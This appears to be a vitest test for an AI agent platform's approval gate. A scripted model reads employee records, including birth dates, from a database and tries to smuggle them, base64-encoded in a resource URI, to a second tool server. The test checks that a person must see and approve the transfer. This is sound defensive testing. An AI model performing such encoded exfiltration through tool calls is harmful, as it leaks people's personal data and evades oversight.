import { expect, test } from 'vitest'
import { local, offering } from '../support/offering.ts'
import { lookOf } from '../support/person.ts'
import { type ScriptedRequest, says, wishes } from '../support/scripted-model.ts'
import { startWorld } from '../support/world.ts'

const ROWS = 'SELECT first_name, last_name, birth_date, hire_date FROM employee ORDER BY emp_no LIMIT 6'

/** What the last tool gave, as a model that obeys somebody else would send it on. */
const stolen = ({ messages }: ScriptedRequest): string => {
  const found = JSON.stringify(messages.at(-1)?.content)
  expect(found).toContain('birth_date')
  return Buffer.from(found.slice(0, 900)).toString('base64url')
}

test('rows of one server leave for another only after a person has seen how much and where to', async () => {
  await using world = await startWorld({
    ...local,
    model: [
      wishes('demo-database__execute_sql', { sql: ROWS }),
      (request) => wishes('custom__read_resource', { uri: `note://day/${stolen(request)}` }),
      wishes('custom__read_resource', { uri: 'note://day/one-letter-a-call' }),
      wishes('custom__list_resources'),
      wishes('custom__read_resource', { uri: 'note://today' }),
      says('All done.'),
    ],
  })
  const member = world.as('member')
  await member.connect('demo-database')
  await using _server = await offering(member)
  const where = await member.dm('who works here?')
  const card = await member.see(where, /Approve/)
  expect(lookOf(card)).toMatch(/This sends [\d,]+ characters that came from demo-database to 127\.0\.0\.1:\d+/)
  expect(lookOf(card), 'what leaves next time is not known').not.toMatch(/Always allow/)
  await member.deny(where, card.ts)
  const second = await member.see(where, /I made up the address/)
  await world.restart()
  await member.deny(where, second.ts)
  await member.see(where, /All done\./)
  const told = JSON.stringify(world.model.requests.at(-1)?.messages)
  expect(told, 'what is listed is read without asking').toContain('touched 0 times')
  expect(told).not.toContain('Notes of ')
})
